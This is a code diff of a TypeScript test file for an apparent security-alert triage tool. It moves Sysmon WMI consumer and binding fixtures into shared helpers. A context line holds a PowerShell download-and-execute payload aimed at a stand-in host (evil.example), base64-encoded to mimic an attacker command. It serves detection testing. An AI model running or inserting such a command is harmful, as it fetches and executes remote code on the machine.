@@ -5,6 +5,7 @@ import { listAlerts, parseAlertFilter } from "@/lib/data/alert-list";
 import { closeDb, getDb } from "@/lib/db/client";
 import { exactFilterValue } from "@/lib/format/filter-value";
 import { ingestStream } from "@/lib/services/ingest/ingest-stream";
+import { sysmon20Doc, sysmon21Doc } from "@/lib/triage/testing/sysmon-docs";
 
 // This file's alerts live on hosts named `${run}-…`; every query pins them with q or host.
 const run = `af${process.pid}x${Date.now()}`;
@@ -14,38 +15,10 @@ const PAYLOAD = "Invoke-WebRequest http://evil.example/stage2.ps1 | iex";
 const ENCODED = Buffer.from(PAYLOAD, "utf16le").toString("base64");
 
 const at = (minute: number) => new Date(Date.UTC(2029, 7, 1, 9, minute)).toISOString();
-function binding(host: string, consumer: string, minute: number, user: string) {
-  return {
-    "@timestamp": at(minute),
-    event: { code: "21", dataset: "windows.sysmon_operational", kind: "event" },
-    host: { name: host },
-    user: { name: user },
-    winlog: {
-      computer_name: host,
-      event_data: {
-        Operation: "Created",
-        Consumer: ` "\\\\\\\\.\\\\ROOT\\\\subscription:CommandLineEventConsumer.Name=\\"${consumer}\\""`,
-        Filter: ` "\\\\\\\\.\\\\ROOT\\\\subscription:__EventFilter.Name=\\"f-${consumer}\\""`,
-      },
-    },
-  };
-}
-function consumerEvent(host: string, consumer: string, minute: number, destination: string) {
-  return {
-    "@timestamp": at(minute),
-    event: { code: "20", dataset: "windows.sysmon_operational", kind: "event" },
-    host: { name: host },
-    winlog: {
-      computer_name: host,
-      event_data: {
-        Operation: "Created",
-        Name: ` "${consumer}"`,
-        Type: "Command Line",
-        Destination: ` "${destination}"`,
-      },
-    },
-  };
-}
+const binding = (host: string, consumer: string, minute: number, user: string) =>
+  sysmon21Doc({ host, consumer, at: at(minute), user: { name: user } });
+const consumerEvent = (host: string, consumer: string, minute: number, destination: string) =>
+  sysmon20Doc({ host, consumer, at: at(minute), destination });
 
 const docs = [
   binding(`${run}-SRV-01`, "Updater", 1, "Alice"),
